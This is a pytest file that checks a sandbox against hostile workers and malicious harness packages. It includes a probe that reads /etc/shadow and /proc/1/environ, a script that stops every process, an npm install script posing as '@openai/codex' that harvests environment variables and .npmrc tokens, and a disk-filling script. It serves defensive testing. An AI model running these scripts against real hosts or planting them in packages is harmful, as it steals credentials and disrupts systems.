"""Boundary: the host. The attacker is a worker with a shell, or the author of a package that the operator installs as a
harness; the victim is everything outside of the sandbox."""

import io
import json
import os
import pathlib
import subprocess
import tarfile
import tempfile
import time

from attack import assert_unseen, canary, tree, worker
from runs import Shop
from server import needs, wait_until

PROBE = r"""
import ctypes, errno, json, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
found = {}
def attempt(name, action):
    try:
        found[name] = "GOT " + str(action())[:60]
    except OSError as error:
        found[name] = errno.errorcode.get(error.errno, "?")
for name, arguments in {"SCTP by type": (2, 5, 0), "SCTP": (2, 1, 132), "SCTP by type, IPv6": (10, 5, 0), "DCCP": (2, 6, 0), "raw": (2, 3, 6),
                        "ping": (2, 2, 1), "UDP-Lite": (2, 2, 136), "packet": (17, 3, 3), "packet by type": (2, 10, 0), "vsock": (40, 1, 0),
                        "MPTCP": (2, 1, 262), "audit netlink": (16, 3, 9), "diag netlink": (16, 3, 4), "ALG": (38, 5, 0)}.items():
    attempt(name, lambda: socket.socket(*arguments))
for name in ("SOCK_STREAM", "SOCK_DGRAM"):
    kind = getattr(socket, name)
    attempt("control " + name, lambda: socket.socket(socket.AF_INET, kind | socket.SOCK_CLOEXEC))
for path in sys.argv[1:]:
    attempt(path, lambda: open(path, "rb").read(100))
    attempt("list " + path, lambda: os.listdir(path))
attempt("host pids", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 300][0:1] or (_ for _ in ()).throw(OSError(2, "none")))
print(json.dumps(found))
"""


def test_a_worker_probes_kernel_interfaces_and_the_files_of_the_server(binary, stack):
    """Gain: the master key, another run's files, or a protocol of the kernel that few have ever tested."""
    shop, secret = Shop(binary, stack), canary("host")
    data = shop.server.data_dir
    (data / "canary").write_text(secret)
    paths = [data, data / "canary", data / "master.key", data / "hone.db", data / "sandbox/threads/key", data / "sandbox/layers/key",
             pathlib.Path("/etc/shadow"), pathlib.Path("/root"), pathlib.Path("/proc/1/environ"), pathlib.Path("/sys/kernel")]
    before = tree(data / "sandbox/base")
    run = shop.until(shop.start("/usr/bin/python3", "-c", PROBE, *map(str, paths))["id"])
    found = json.loads(shop.texts(run["id"], "message")[-1])
    assert found.pop("control SOCK_STREAM").startswith("GOT") and found.pop("control SOCK_DGRAM").startswith("GOT"), found
    got = {what: outcome for what, outcome in found.items() if outcome.startswith("GOT")}
    assert not got and len(found) > 20, got or found
    assert_unseen(secret, json.dumps(found))
    assert tree(data / "sandbox/base") == before


def test_a_worker_stops_every_process_to_outlive_its_limits(binary, stack):
    """Gain: a sandbox that cannot be talked to, interrupted or ended, on the host's processors without a limit."""
    shop = Shop(binary, stack)
    hold = "import os, signal\nprint('holding', flush=True)\nwhile True:\n    try: os.kill(-1, signal.SIGSTOP)\n    except OSError: pass"
    held = shop.start("/usr/bin/python3", "-c", hold)["id"]
    wait_until(lambda: "holding" in shop.texts(held, "message"), "the attacker has begun")
    begun = time.monotonic()
    shop.client.must("POST", f"/v1/runs/{held}/cancel")
    assert shop.until(held)["state"] == "cancelled"
    assert time.monotonic() - begun < 60, "it held the sandbox"
    _, lines = worker(shop, "echo another run works")
    assert lines == ["another run works"], lines


HOSTILE = """#!/bin/sh
{
    echo ran
    env
    cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
    cat "$HOME/.npmrc" ~root/.npmrc SECRET_FILE 2>&1
    (curl -s -m 3 http://127.0.0.1:7070/ || curl -s -m 3 https://registry.example.com/) 2>&1
    echo owned > HOST_FILE
    echo owned > DATA_FILE
    echo code: $?
} > loot 2>&1
exit 0
"""


def pack(path, files):
    with tarfile.open(path, "w:gz") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo("package/" + name)
            entry.size, entry.mode = len(content), 0o755
            archive.addfile(entry, io.BytesIO(content.encode()))


def test_a_package_runs_its_install_script_on_the_host(binary, stack):
    """Gain: the environment of the user who installs a harness (cloud keys, tokens), files of that user, and a foothold on the host."""
    needs("npm", subprocess.run(["sh", "-c", "command -v npm"], capture_output=True).returncode == 0)
    place = pathlib.Path(stack.enter_context(tempfile.TemporaryDirectory(dir="/var/tmp")))
    os.chmod(place, 0o777)
    secret = canary("environment")
    (place / "secret").write_text(secret)
    (place / "home").mkdir()
    (place / "home/.npmrc").write_text(f"//registry.example.com/:_authToken={secret}\n")
    script = HOSTILE.replace("HOST_FILE", str(place / "owned")).replace("DATA_FILE", str(place / "data/owned")).replace("SECRET_FILE", str(place / "secret"))
    description = {"name": "@openai/codex", "version": "6.6.6", "bin": {"codex": "run"}, "scripts": {
        "preinstall": "sh ./script", "install": "sh ./script", "postinstall": "sh ./script"}}
    program = "#!/bin/sh\nenv > /tmp/seen; cat SECRET 2>&1; echo owned > OWNED; env; echo codex 6.6.6\n".replace(
        "SECRET", str(place / "secret")).replace("OWNED", str(place / "owned"))
    pack(place / "package.tgz", {"package.json": json.dumps(description), "script": script, "run": program})
    done = subprocess.run([pathlib.Path(binary).resolve(), "harness", "install", "codex", "--from", place / "package.tgz", "--data-dir", place / "data"],
                          capture_output=True, text=True, timeout=600, cwd=place,
                          env={"PATH": os.environ["PATH"], "HOME": str(place / "home"), "AWS_SECRET_ACCESS_KEY": secret, "HONE_MASTER_KEY": secret,
                               "npm_config_registry": "http://127.0.0.1:9/"})
    assert done.returncode == 0 and "6.6.6 is ready" in done.stderr, (done.stdout, done.stderr)
    # Control: the scripts did run, in a sandbox; what they could see is in `loot`.
    loot = (place / "data/harnesses/codex/6.6.6/node_modules/@openai/codex/loot").read_text()
    assert loot.startswith("ran\n") and "HOME=/home/worker" in loot, loot
    assert_unseen(secret, loot, done.stdout, done.stderr)
    assert not (place / "owned").exists() and not (place / "data/owned").exists()
    for path in (place / "data/harnesses").rglob("*"):
        assert path.lstat().st_uid == os.geteuid() and not path.lstat().st_mode & 0o6000, path


def test_the_install_script_of_a_package_fills_the_disk(binary, stack):
    """Gain: the host's disk: the folder of a harness is a directory of the host, and no image with a size."""
    needs("npm", subprocess.run(["sh", "-c", "command -v npm"], capture_output=True).returncode == 0)
    place = pathlib.Path(stack.enter_context(tempfile.TemporaryDirectory(dir="/var/tmp")))
    os.chmod(place, 0o777)
    description = {"name": "@openai/codex", "version": "6.6.6", "bin": {"codex": "run"}, "scripts": {"postinstall": "sh ./script"}}
    fill = "fallocate -l 700M fill.$1 || dd if=/dev/zero of=fill.$1 bs=1M count=700"
    script = f"set -- 1; {fill}; set -- 2; {fill}; WAIT; rm -f fill.*; exit 0"
    # The first waits to be noticed; the second is done before anybody measures, and leaves what it wrote.
    for each in (script.replace("WAIT", "sleep 60"), script.replace("WAIT; rm -f fill.*; ", "")):
        pack(place / "package.tgz", {"package.json": json.dumps(description), "script": each, "run": "#!/bin/sh\necho codex 6.6.6\n"})
        done = subprocess.run([pathlib.Path(binary).resolve(), "harness", "install", "codex", "--from", place / "package.tgz", "--data-dir", place / "data"],
                              capture_output=True, text=True, timeout=600, cwd=place, env={"PATH": os.environ["PATH"], "HOME": str(place)})
        assert done.returncode != 0 and "more than 1024 MiB" in done.stderr, (done.stdout, done.stderr)
        left = sum(path.lstat().st_blocks * 512 for path in (place / "data").rglob("*"))
        assert left < 100 << 20, f"{left >> 20} MiB are left on the host"
